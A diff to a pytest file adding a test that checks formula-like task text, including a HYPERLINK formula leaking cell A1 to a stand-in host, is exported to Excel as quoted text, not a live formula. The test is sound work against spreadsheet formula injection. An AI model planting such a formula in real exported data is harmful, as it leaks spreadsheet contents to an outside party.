@@ -97,6 +97,20 @@ def test_export_then_build_gives_the_same_plan(plan_dir, tmp_path):
 
 
 @pytest.mark.slow
+def test_plan_text_that_looks_like_a_formula_is_exported_as_text(tmp_path):
+    plan = tmp_path / PLAN_DIR.name
+    shutil.copytree(PLAN_DIR, plan)
+    tasks = pd.read_csv(plan / "tasks.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    payloads = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+ Tổ chức hội nghị", "@SUM(A1)", "-1+2"]
+    tasks.loc[: len(payloads) - 1, "text"] = payloads
+    tasks.to_csv(plan / "tasks.csv", index=False, encoding="utf-8-sig")
+    wb = load_workbook(export_plan(str(plan), tmp_path / "ke-hoach.xlsx"))
+    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if c.value in payloads}
+    assert set(cells) == set(payloads)
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())
+
+
+@pytest.mark.slow
 def test_plan_rules_and_extra_meta_keys_survive_the_round_trip(tmp_path):
     src = tmp_path / "src" / "hai-duong-2024"
     shutil.copytree(PLAN_DIR, src)
